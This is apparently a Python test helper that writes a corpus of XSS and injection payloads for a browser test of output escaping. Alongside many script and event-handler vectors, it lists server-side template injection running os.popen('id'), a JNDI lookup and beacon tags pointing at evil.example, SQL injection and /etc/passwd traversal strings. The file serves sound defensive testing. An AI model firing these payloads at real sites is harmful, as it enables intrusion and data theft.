"""Build tests/xss/payloads.json: hand-written classics plus vectors x context breakers x code variants.

Every payload is distinct, at most 200 characters, and announces itself when it runs: it sets
`window.__xss` or opens a dialog (alert/confirm/prompt). Run `python tests/xss/build_corpus.py` to
rewrite the file; the browser test reads the file.
"""

from __future__ import annotations

import itertools
import json
from pathlib import Path

OUT = Path(__file__).with_name("payloads.json")
MAX_LENGTH = 200

CODES = ("window.__xss=1", "alert(1)", "confirm(1)", "prompt(1)", "top['__xss']=1",
         "eval('window.__xss=1')", "self[atob('X194c3M=')]=1", "Function('window.__xss=1')()")

VECTORS = (
    "<script>{c}</script>", "<img src=x onerror={c}>", "<img src=\"x\" onerror=\"{c}\">",
    "<svg onload={c}>", "<svg><script>{c}</script></svg>", "<body onload={c}>",
    "<iframe src=\"javascript:{c}\"></iframe>", "<iframe srcdoc=\"<script>{c}</script>\"></iframe>",
    "<details open ontoggle={c}>", "<input autofocus onfocus={c}>", "<video><source onerror={c}></video>",
    "<audio src onerror={c}>", "<object data=\"javascript:{c}\"></object>",
    "<embed src=\"javascript:{c}\">", "<a href=\"javascript:{c}\">click</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror={c}>",
    "<noscript><p title=\"</noscript><img src=x onerror={c}>\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:{c}\">",
    "<form><button formaction=javascript:{c}>x", "<select autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}>", "<marquee onstart={c}>", "<img src=x:x onerror=`{c}`>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>", "<image src=x onerror={c}>",
    "<scr<script>ipt>{c}</scr</script>ipt>", "<ScRiPt>{c}</sCrIpT>", "<img/src=x/onerror={c}>",
    "<svg/onload={c}//", "<style onload={c}></style>",
    "<link rel=import href=\"data:text/html,<script>{c}</script>\">",
    "<x onclick={c} style=display:block>XX</x>",
)
BREAKERS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "</noscript>")

CLASSICS = (
    "\" autofocus onfocus=\"window.__xss=1\" x=\"", "' autofocus onfocus='window.__xss=1' x='",
    "\" onmouseover=\"alert(1)", "javascript:alert(1)", "JaVaScRiPt:window.__xss=1",
    "java\tscript:alert(1)", "javascript://%0Aalert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "';alert(1);//",
    "\";alert(1);//", "\\';alert(1);//", "\"}]});alert(1)//", "</script><script>alert(1)</script>",
    "'-alert(1)-'", "\"-alert(1)-\"", "`${alert(1)}`", "${alert(1)}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{{7*7}}", "{{ 7*'7' }}", "{{ config }}", "{{ config.items() }}", "{{ self.__init__.__globals__ }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}", "{% for x in range(3) %}X{% endfor %}",
    "{% raw %}{{7*7}}{% endraw %}", "{% set x = 7*7 %}{{ x }}", "{# comment #}visible?", "{%print(7*7)%}",
    "{{constructor.constructor('window.__xss=1')()}}", "{{$on.constructor('alert(1)')()}}", "[[${7*7}]]",
    "${{7*7}}", "{{=7*7}}", "@(7*7)", "*{7*7}", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;", "&#60;svg onload=alert(1)&#62;", "&amp;lt;b&amp;gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "<scr\u200bipt>alert(1)</scr\u200bipt>", "\ufeff<script>alert(1)</script>",
    "\u202e>tpircs/<)1(trela>tpircs<", "<\u0455cript>alert(1)</\u0455cript>",
    "<script\u0338>alert(1)</script>", "\u2028alert(1)\u2029",
    "\ud83d\udcf7<img src=x onerror=alert(1)>\ud83d\udcf7", "Ca\u0301me\u0301ra <b>bold</b>",
    "\u0421\u0442\u0440\u0438\u0442 <i>\u0441\u043b\u0435\u0436\u043a\u0430</i> \u2603",
    "\u76e3\u8996<script>alert(1)</script>\u30ab\u30e1\u30e9",
    "\u05e9\u05dc\u05d5\u05dd <u>x</u> \u0645\u0631\u062d\u0628\u0627", "<!--", "-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><x>alert(1)</x>",
    "<!DOCTYPE html><script>alert(1)</script>", "</body></html><script>alert(1)</script>", "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>", "<title>pwned</title>", "<base href=//evil.example/>",
    "<style>*{display:none}</style>", "<style>@import'//evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">", "<div style=\"width:expression(alert(1))\">",
    "<a href=\"https://evil.example\" target=_blank>link</a>", "<form action=//evil.example><input name=q>",
    "<img src=//evil.example/beacon.png>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",  # noqa: E501
    "\"><svg/onload=alert(1)>", "'\"><img src=x onerror=alert(1)>",
    "</span></div></td></tr></table><script>alert(1)</script>", "</dd></dl><script>alert(1)</script>",
    "</a><script>alert(1)</script>", "</option></select><img src=x onerror=alert(1)>",
    "</code><script>alert(1)</script>", "</li></ul><script>alert(1)</script>",
    "</h1><script>alert(1)</script>", "</p><script>alert(1)</script>",
    "</article><script>alert(1)</script>", "</summary></details><script>alert(1)</script>",
    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
    "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"javas&#x09;cript:alert(1)\">x</a>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>X</text></a></svg>",
    "<iframe src=\"data:text/html,<script>parent.__xss=1</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\">", "__proto__", "constructor", "toString",
    "[object Object]", "undefined", "null", "NaN", "0", "-1", "true", "<", ">", "&", "'", "\"", "`", "<>",
    "&&", "a < b > c", "1 & 2 && 3", "Tom's \"cam\" <3", "</", "<a", "<!", "<?", "\\", "\\\\", "%00", "%",
    "%s%s%s%n", "{0}", "{}", "{{", "}}", "{%", "%}", "${", "#{", "${}", "<%", "%>", "[[", "]]", "`", "``",
    "```", "' OR '1'='1", "\"; DROP TABLE cameras; --", "1; SELECT pg_sleep(10)",
    "${jndi:ldap://evil.example/a}", "../../../../etc/passwd", "file:///etc/passwd", "\u200b",
    "\u200d\u200c", "\u00a0\u00a0", "x\u0300\u0301\u0302\u0303",
)


def generated() -> list[str]:
    codes = itertools.cycle(CODES)
    out = []
    for vector, breaker in itertools.product(VECTORS, BREAKERS):
        out.append(breaker + vector.format(c=next(codes)))
    return out


def corpus() -> list[str]:
    """Distinct payloads in a stable order: classics first, then the generated combinations."""
    seen: dict[str, None] = {}
    for payload in (*CLASSICS, *generated()):
        if payload.strip() and len(payload) <= MAX_LENGTH:
            seen.setdefault(payload, None)
    return list(seen)


if __name__ == "__main__":
    payloads = corpus()
    OUT.write_text(json.dumps(payloads, indent=0, ensure_ascii=True) + "\n", encoding="utf-8")
    print(f"{len(payloads)} payloads written to {OUT}")
